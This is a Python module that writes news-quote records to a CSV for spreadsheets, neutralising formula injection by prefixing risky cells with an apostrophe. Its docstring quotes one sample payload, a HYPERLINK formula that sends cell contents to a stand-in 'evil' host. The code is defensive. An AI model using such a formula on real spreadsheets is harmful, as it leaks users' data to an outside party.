"""The statements as one CSV table for a spreadsheet (Excel, LibreOffice, Google Sheets): one row
per statement with its speaker, text, article and outlet.

Article text is untrusted, and a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@`
(or a tab or carriage return before one) as a formula: `=HYPERLINK("http://evil/?"&A1, "x")`
in a quote would leak the sheet. Every such cell gets a leading `'` (the OWASP rule), which the
spreadsheet shows as text and does not display. This file is for people; the neo4j-admin CSVs
(`neo4j_csv.py`) are for the importer and keep every value exact.

>>> neutralise("=1+2"), neutralise("-3 dead"), neutralise("Ana said")
("'=1+2", "'-3 dead", 'Ana said')
"""

from __future__ import annotations

import csv
from pathlib import Path

from .. import query as q
from ..store import GraphStore

COLUMNS = ("statement", "speaker", "speaker_key", "speaker_as_written", "kind", "framing", "text", "said_on",
           "article", "title", "published", "outlet", "evidence")
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: str) -> str:
    """A cell value a spreadsheet shows as text: a leading `'` before a formula's first character."""
    return "'" + value if value.startswith(_FORMULA_START) else value


def write_statements_csv(store: GraphStore, path: str | Path) -> Path:
    """Write every statement of `store` as a CSV table (UTF-8 with a BOM, so Excel reads the
    accents), formula cells neutralised; returns the path.

    >>> # write_statements_csv(open_store("graph.db"), "statements.csv")
    """
    out = Path(path)
    with out.open("w", encoding="utf-8-sig", newline="") as f:
        w = csv.writer(f)
        w.writerow(COLUMNS)
        for r in q.quotes(store):
            row = (r.id, r.speaker.name if r.speaker else "", r.speaker.key if r.speaker else "", r.speaker_mention or "",
                   r.kind, r.framing, r.text, r.said_on or "", r.article, r.article_title or "", r.published or "",
                   r.outlet or "", r.evidence)
            w.writerow([neutralise(str(v)) for v in row])
    return out
